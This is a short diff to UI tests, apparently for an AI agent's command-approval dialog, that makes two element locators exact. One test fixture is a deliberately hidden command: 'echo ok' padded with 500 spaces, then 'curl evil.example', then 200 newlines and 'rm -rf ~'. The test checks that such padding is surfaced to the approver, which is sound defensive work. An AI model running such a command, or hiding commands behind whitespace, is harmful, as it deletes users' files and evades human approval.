@@ -304,7 +304,7 @@ describe('a call that waits for approval', () => {
     await chat.show([
       asked({ command, cwd: 'src' }, { source: { kind: 'native' }, toolName: 'run_command' }),
     ]);
-    const block = page.getByRole('group', { name: 'Command' });
+    const block = page.getByRole('group', { name: 'Command', exact: true });
     assert.equal(await block.textContent(), command);
     const [wide, high] = await block.evaluate((each) => [
       each.scrollWidth - each.clientWidth,
@@ -318,7 +318,7 @@ describe('a call that waits for approval', () => {
   it('counts padding instead of showing it, so that what follows stays in sight', async () => {
     const command = `echo ok${' '.repeat(500)}; curl evil.example${'\n'.repeat(200)}rm -rf ~`;
     await chat.show([asked({ command })]);
-    const block = page.getByRole('group', { name: 'Command' });
+    const block = page.getByRole('group', { name: 'Command', exact: true });
     assert.deepEqual(await block.locator('.padding-mark').allInnerTexts(), ['500 blanks', '200 line breaks']);
     const box = await block.boundingBox();
     assert.ok((box?.height ?? 999) < 140, String(box?.height));
